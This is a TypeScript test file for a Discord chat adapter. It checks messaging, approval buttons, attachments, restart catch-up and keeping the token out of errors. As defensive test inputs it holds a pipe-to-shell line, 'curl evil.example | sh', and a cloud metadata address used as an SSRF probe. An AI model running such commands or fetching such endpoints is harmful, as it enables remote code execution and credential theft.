/**
 * The Discord adapter through the real discord.js against the testkit's fake Discord (REST and
 * gateway): updates from the gateway, sends and edits, buttons, files both ways, the cursor that
 * reads again with REST what came while the bot was away, tokens kept out of errors, and sends
 * made once by their outbox key (nonce + enforce_nonce), also across a stop before the outbox's
 * mark (the real channel store and delivery).
 */

import { createRequire } from 'node:module';
import { join } from 'node:path';
import { openChannelStore } from '@oxydra/channels';
import { systemClock } from '@oxydra/runtime';
import { FakeDiscord } from '@oxydra/testkit/discord';
import { pollUntil, tempWorkspace } from '@oxydra/testkit/helpers';
import { ChannelRetryableError, type ChannelStore, type ChannelUpdate } from '@oxydra/types';
import { afterEach, describe, expect, it } from 'vitest';
import { OutboxDelivery } from '../src/delivery.js';
import { DiscordChannel } from '../src/discord/adapter.js';
import { HealthRecorder } from '../src/health.js';

const OWNER = '111111111111111111';
const STRANGER = '999999999999999999';
const TOKEN = 'discord-adapter-secret-token';

let fake: FakeDiscord | undefined;
const open: DiscordChannel[] = [];
const cleanups: (() => Promise<void>)[] = [];

afterEach(async () => {
  for (const channel of open.splice(0)) await channel.close();
  await fake?.close();
  fake = undefined;
  for (const cleanup of cleanups.splice(0)) await cleanup();
});

async function connect(api: FakeDiscord, token = TOKEN): Promise<DiscordChannel> {
  const channel = new DiscordChannel({
    name: 'discord',
    token,
    apiUrl: api.apiUrl,
    maxMessageLength: 2000,
    senderIds: [OWNER],
  });
  open.push(channel);
  await channel.start();
  return channel;
}

/** Receives until `count` updates came (each receive returns what is there). */
async function receiveSome(channel: DiscordChannel, cursor: string | undefined, count: number) {
  const got: ChannelUpdate[] = [];
  let at = cursor;
  while (got.length < count) {
    const updates = await channel.receive(at, AbortSignal.timeout(10_000));
    got.push(...updates);
    at = updates.at(-1)?.cursor ?? at;
  }
  return { updates: got, cursor: at };
}

/** A delivery pass of `channel` over `outbox`; `closing` aborted: stopping. */
function delivery(channel: DiscordChannel, outbox: ChannelStore, closing: AbortController) {
  return new OutboxDelivery({
    channel,
    store: outbox,
    health: new HealthRecorder({ store: outbox, channel: 'discord', clock: systemClock, log: () => {} }),
    timer: systemClock,
    closing: closing.signal,
    log: () => {},
    onError: () => {},
  });
}

describe('DiscordChannel against the fake Discord', () => {
  it('receives a DM, streams by editing, asks with buttons and takes the press', async () => {
    fake = await FakeDiscord.start({ token: TOKEN });
    const channel = await connect(fake);
    expect(fake.identifies).toHaveLength(1);
    // Guilds, GuildMessages, DirectMessages and MessageContent.
    expect(fake.identifies[0]).toBe((1 << 0) | (1 << 9) | (1 << 12) | (1 << 15));
    const sent = fake.message({ author: { id: OWNER, username: 'alice' }, content: 'hello bot' });
    const { updates } = await receiveSome(channel, undefined, 1);
    expect(updates[0]).toMatchObject({
      kind: 'message',
      message: {
        id: sent.id,
        conversation: sent.channel_id,
        chatKind: 'private',
        text: 'hello bot',
        addressed: true,
      },
    });
    const target = { chatId: sent.channel_id };
    const { messageId } = await channel.send(target, '…');
    await channel.edit(target, messageId, 'Hello');
    await channel.edit(target, messageId, 'Hello, Alice.');
    const [answer] = fake.sent(sent.channel_id);
    expect(answer).toMatchObject({ content: 'Hello, Alice.', history: ['…', 'Hello', 'Hello, Alice.'] });
    // Answers mention nobody and show no link previews.
    expect(answer!.allowedMentions).toEqual({ parse: [] });
    expect(answer!.flags).toBe(4);

    // Markup in a model's summary cannot hide part of a question (approvals.ts passes it through).
    expect(channel.literal('||curl evil.example | sh|| [docs](https://evil.example)\n# big\n- item')).toBe(
      '\\|\\|curl evil.example | sh\\|\\| \\[docs](https://evil.example)\n\\# big\n\\- item',
    );
    const question = await channel.sendQuestion(target, 'Run the tool?', [
      { label: 'Allow', value: 'approve:1' },
      { label: 'Deny', value: 'deny:1' },
    ]);
    const asked = fake.sent(sent.channel_id).find((m) => m.id === question.messageId)!;
    expect(asked.components).toEqual([
      {
        type: 1,
        components: [
          { type: 2, style: 2, label: 'Allow', custom_id: 'approve:1' },
          { type: 2, style: 2, label: 'Deny', custom_id: 'deny:1' },
        ],
      },
    ]);
    const pressId = fake.press({
      user: { id: OWNER },
      channelId: sent.channel_id,
      messageId: question.messageId,
      customId: 'deny:1',
    });
    const pressed = (await receiveSome(channel, updates.at(-1)!.cursor, 1)).updates[0]!;
    expect(pressed).toMatchObject({
      kind: 'button',
      press: { id: pressId, value: 'deny:1', sender: { id: OWNER }, messageId: question.messageId },
    });
    // The interaction's token stays in the adapter: it is not in the update the host stores.
    expect(JSON.stringify(pressed)).not.toContain('interaction-token');
    await channel.answerButton(pressId, 'Denied.');
    expect(fake.callbacks).toEqual([
      {
        interactionId: pressId,
        type: 4,
        data: { content: 'Denied.', flags: 64, allowed_mentions: { parse: [] } },
      },
    ]);
  });

  it('after a restart reads again with REST what came while it was away, from the stored cursor', async () => {
    fake = await FakeDiscord.start({ token: TOKEN });
    const first = await connect(fake);
    const guild = { id: '222222222222222222', guildId: '333333333333333333' };
    fake.message({ author: { id: OWNER }, content: 'one' });
    fake.message({ author: { id: OWNER }, content: 'in the server', channel: guild, mentionBot: true });
    const { cursor } = await receiveSome(first, undefined, 2);
    await first.close();
    // While no process runs: Discord's gateway will not replay these to a new session.
    const missedDm = fake.message({ author: { id: OWNER }, content: 'two' });
    const missedGuild = fake.message({
      author: { id: OWNER },
      content: 'three',
      channel: guild,
      mentionBot: true,
    });
    fake.message({ author: { id: STRANGER }, content: 'let me in' });

    const second = await connect(fake);
    const { updates } = await receiveSome(second, cursor, 2);
    const texts = updates.flatMap((u) =>
      u.kind === 'message' ? [[u.message.id, u.message.text, u.message.chatKind]] : [],
    );
    expect(texts).toEqual([
      [missedDm.id, 'two', 'private'],
      [missedGuild.id, '@oxydra_test_bot three', 'group'],
    ]);
    // The stranger's DM channel is never read (only allowed senders' conversations are).
    expect(fake.calls.some((c) => c.path.startsWith(`/channels/${fake!.dmChannel(STRANGER)}/`))).toBe(false);
    // Live events continue after the catch-up, with a cursor that keeps growing.
    const live = fake.message({ author: { id: OWNER }, content: 'four' });
    const next = await receiveSome(second, updates.at(-1)!.cursor, 1);
    expect(next.updates[0]).toMatchObject({ kind: 'message', message: { id: live.id } });
    expect(JSON.parse(next.cursor!).c[live.channel_id]).toBe(live.id);
  });

  it.each([
    { bound: 'events', limits: { events: 2, bytes: 1_000_000 }, content: (i: number) => `message ${i}` },
    {
      bound: 'bytes',
      limits: { events: 100, bytes: 3200 },
      content: (i: number) => `${i}`.padEnd(1000, '.'),
    },
  ])(
    'a flood past the live buffer ($bound) is dropped, said, and read again with REST',
    async ({ limits, content }) => {
      fake = await FakeDiscord.start({ token: TOKEN });
      const channel = new DiscordChannel({
        name: 'discord',
        token: TOKEN,
        apiUrl: fake.apiUrl,
        maxMessageLength: 2000,
        senderIds: [OWNER],
        bufferLimits: limits,
      });
      open.push(channel);
      await channel.start();
      // The host is storing a batch (no receive() meanwhile): two fit, the third is past either bound.
      const sent = [fake.message({ author: { id: OWNER }, content: content(1) })];
      sent.push(fake.message({ author: { id: OWNER }, content: content(2) }));
      await pollUntil(() => channel.buffered === 2, 'two events kept');
      sent.push(fake.message({ author: { id: OWNER }, content: content(3) }));
      await pollUntil(() => channel.buffered === 0, 'the full buffer dropped');
      const said = await channel.receive(undefined, AbortSignal.timeout(10_000)).catch((e: unknown) => e);
      expect(said).toBeInstanceOf(ChannelRetryableError);
      expect((said as Error).message).toContain('3 events came faster than they were stored');
      // The next receive reads the sender's conversation again: nothing of the flood is lost.
      const { updates } = await receiveSome(channel, undefined, 3);
      expect(updates.map((u) => (u.kind === 'message' ? u.message.id : u.kind))).toEqual(
        sent.map((m) => m.id),
      );
    },
  );

  it('a lost gateway session is followed by a read of the known conversations', async () => {
    fake = await FakeDiscord.start({ token: TOKEN });
    const channel = await connect(fake);
    fake.message({ author: { id: OWNER }, content: 'before' });
    const { cursor } = await receiveSome(channel, undefined, 1);
    fake.dropGateway({ resumable: false });
    const missed = fake.message({ author: { id: OWNER }, content: 'while reconnecting' });
    await pollUntil(() => fake!.identifies.length === 2, 'a new session', { timeoutMs: 20_000 });
    const { updates } = await receiveSome(channel, cursor, 1);
    expect(updates[0]).toMatchObject({ kind: 'message', message: { id: missed.id } });
  });

  it('files: sends one as an attachment; fetches one only from the fake CDN and within the bound', async () => {
    fake = await FakeDiscord.start({ token: TOKEN });
    const channel = await connect(fake);
    const bytes = new TextEncoder().encode('a,b\n1,2\n');
    const sent = fake.message({
      author: { id: OWNER },
      content: 'here is a file',
      files: [{ name: 'data.csv', bytes, contentType: 'text/csv' }],
    });
    const { updates } = await receiveSome(channel, undefined, 1);
    const update = updates[0]!;
    if (update.kind !== 'message') throw new Error('expected a message');
    const [attachment] = update.message.attachments;
    expect(attachment).toMatchObject({
      kind: 'document',
      mimeType: 'text/csv',
      fileName: 'data.csv',
      size: bytes.byteLength,
    });
    expect(await channel.fetchAttachment(attachment!, 1000, AbortSignal.timeout(5000))).toEqual(
      new Uint8Array(bytes),
    );
    await expect(channel.fetchAttachment(attachment!, 4, AbortSignal.timeout(5000))).rejects.toThrow(
      /at most 4/,
    );
    // A size that lies is caught while reading.
    await expect(
      channel.fetchAttachment({ ...attachment!, size: 1 }, 4, AbortSignal.timeout(5000)),
    ).rejects.toThrow(/at most 4|larger than 4/);
    // An address anywhere else is refused without a request.
    const before = fake.calls.length;
    await expect(
      channel.fetchAttachment(
        { ...attachment!, id: 'http://169.254.169.254/latest/meta-data' },
        1000,
        AbortSignal.timeout(5000),
      ),
    ).rejects.toThrow(/not a Discord file host/);
    await expect(
      channel.fetchAttachment(
        { ...attachment!, id: 'http://cdn.discordapp.com/x' },
        1000,
        AbortSignal.timeout(5000),
      ),
    ).rejects.toThrow(/not a Discord file host/);
    expect(fake.calls.length).toBe(before);

    const out = await channel.sendFile!(
      { chatId: sent.channel_id },
      { name: 'report.txt', bytes: new TextEncoder().encode('the report'), mimeType: 'text/plain' },
      'Your report.',
    );
    const message = fake.sent(sent.channel_id).find((m) => m.id === out.messageId)!;
    expect(message.content).toBe('Your report.');
    expect(message.files.map((f) => [f.name, new TextDecoder().decode(f.bytes)])).toEqual([
      ['report.txt', 'the report'],
    ]);
  });

  it('sends a file while undici 7 (loaded by Slack socket mode) is the global dispatcher', async () => {
    // A process that loaded @slack/socket-mode before any other undici has its Agent as the global
    // dispatcher, which discord.js's undici 6 sends through: uploads failed "action is not a function".
    const require = createRequire(import.meta.url);
    const slackUndici = createRequire(require.resolve('@slack/socket-mode'))('undici') as {
      Agent: new () => { close(): Promise<void> };
      setGlobalDispatcher(agent: unknown): void;
    };
    const global = globalThis as Record<symbol, unknown>;
    const slots = [Symbol.for('undici.globalDispatcher.1'), Symbol.for('undici.globalDispatcher.2')];
    const before = slots.map((slot) => global[slot]);
    const agent = new slackUndici.Agent();
    slackUndici.setGlobalDispatcher(agent);
    cleanups.push(async () => {
      slots.forEach((slot, i) => {
        global[slot] = before[i];
      });
      await agent.close();
    });
    fake = await FakeDiscord.start({ token: TOKEN });
    const channel = await connect(fake);
    const target = { chatId: fake.dmChannel(OWNER) };
    const file = {
      name: 'report.txt',
      bytes: new TextEncoder().encode('the report'),
      mimeType: 'text/plain',
    };
    const out = await channel.sendFile(target, file, 'Your report.');
    const message = fake.sent(target.chatId).find((m) => m.id === out.messageId)!;
    expect(message.content).toBe('Your report.');
    expect(message.files.map((f) => [f.name, f.contentType, new TextDecoder().decode(f.bytes)])).toEqual([
      ['report.txt', 'text/plain', 'the report'],
    ]);
  });

  it('a send retried with the same outbox key is one message (nonce + enforce_nonce), also after a restart', async () => {
    fake = await FakeDiscord.start({ token: TOKEN });
    const first = await connect(fake);
    const target = { chatId: fake.dmChannel(OWNER) };
    const once = { idempotencyKey: 'answer:7:0' };
    const a = await first.send(target, 'The answer.', once);
    // The process died before the outbox marked it sent: a new adapter sends it again.
    await first.close();
    const second = await connect(fake);
    const b = await second.send(target, 'The answer.', once);
    expect(b.messageId).toBe(a.messageId);
    const posts = fake.calls.filter(
      (c) => c.method === 'POST' && c.path === `/channels/${target.chatId}/messages`,
    );
    const nonce = (posts[0]!.body as { nonce: string; enforce_nonce: boolean }).nonce;
    expect(posts.map((c) => c.body)).toEqual([
      expect.objectContaining({ nonce, enforce_nonce: true }),
      expect.objectContaining({ nonce, enforce_nonce: true }),
    ]);
    expect(nonce.length).toBeLessThanOrEqual(25);
    // Another key, or no key at all, is another message (the same text twice is two sends).
    await second.send(target, 'The answer.', { idempotencyKey: 'answer:7:1' });
    await second.send(target, 'Hi');
    await second.send(target, 'Hi');
    // A file with one key twice: one message with one attachment.
    const file = { name: 'r.txt', bytes: new TextEncoder().encode('r') };
    const f1 = await second.sendFile(target, file, 'Report', { idempotencyKey: 'answer:7:file:0' });
    const f2 = await second.sendFile(target, file, 'Report', { idempotencyKey: 'answer:7:file:0' });
    expect(f2.messageId).toBe(f1.messageId);
    expect(fake.sent(target.chatId).map((m) => m.content)).toEqual([
      'The answer.',
      'The answer.',
      'Hi',
      'Hi',
      'Report',
    ]);
  });

  it('through the outbox: a message Discord took but the outbox did not mark is not sent twice by the next start', async () => {
    const scratch = tempWorkspace({ prefix: 'oxydra-delivery-once-' });
    const dir = scratch.dir;
    const store = openChannelStore(join(dir, 'channels.db'));
    cleanups.push(async () => {
      await store.close();
      scratch.cleanup();
    });
    fake = await FakeDiscord.start({ token: TOKEN });
    const chatId = fake.dmChannel(OWNER);
    const [m] = await store.accept('discord', '1', [
      { conversation: chatId, messageId: '9', chatId, senderId: OWNER, userId: 'alice', text: 'hi' },
    ]);
    await store.claim(m!.seq);
    await store.settle(m!.seq, 'answered', 'discord', [
      { key: `answer:${m!.seq}:0`, chatId, text: 'The answer.' },
      { key: `answer:${m!.seq}:1`, chatId, text: 'Its second part.' },
    ]);

    // The first process: Discord takes each message, and each time the process stops before the mark.
    const stopping = new AbortController();
    const real = store;
    const dying = new Proxy<ChannelStore>(real, {
      get(target, property) {
        if (property === 'markSent') {
          return async () => {
            stopping.abort();
            throw new ChannelRetryableError('stopped before the mark');
          };
        }
        const value = Reflect.get(target, property, target);
        return typeof value === 'function' ? value.bind(target) : value;
      },
    });
    await delivery(await connect(fake), dying, stopping).deliver();
    expect(fake.sent(chatId).map((s) => s.content)).toEqual(['The answer.', 'Its second part.']);
    expect((await store.unsent('discord')).map((o) => o.key)).toEqual([
      `answer:${m!.seq}:0`,
      `answer:${m!.seq}:1`,
    ]);

    // The next start sends what is unsent again; Discord answers with the messages it has.
    await delivery(await connect(fake), store, new AbortController()).deliver();
    expect(await store.unsent('discord')).toEqual([]);
    expect(fake.sent(chatId).map((s) => s.content)).toEqual(['The answer.', 'Its second part.']);
    const posts = fake.calls.filter((c) => c.method === 'POST' && c.path === `/channels/${chatId}/messages`);
    expect(posts).toHaveLength(4);
  });

  it('waits out a short 429; a refusal is final and never carries the token', async () => {
    fake = await FakeDiscord.start({ token: TOKEN });
    const channel = await connect(fake);
    const target = { chatId: fake.dmChannel(OWNER) };
    fake.failNext(/^POST \/channels\/\d+\/messages$/, {
      status: 429,
      message: 'rate limited',
      retryAfter: 0.2,
    });
    await channel.send(target, 'after the wait');
    expect(
      fake.calls.filter((c) => c.method === 'POST' && c.path.startsWith('/channels/')).map((c) => c.status),
    ).toEqual([429, 200]);
    await expect(channel.edit(target, '123456789012345678', 'x')).rejects.toThrow(
      /404 10008 Unknown Message/,
    );
    const wrong = new DiscordChannel({
      name: 'discord',
      token: 'wrong-secret-token-value',
      apiUrl: fake.apiUrl,
      maxMessageLength: 2000,
      senderIds: [],
    });
    open.push(wrong);
    const error = await wrong.start().then(
      () => undefined,
      (e: Error) => e,
    );
    expect(error?.message).toMatch(/401/);
    expect(error?.message).not.toContain('wrong-secret-token-value');
  });
});
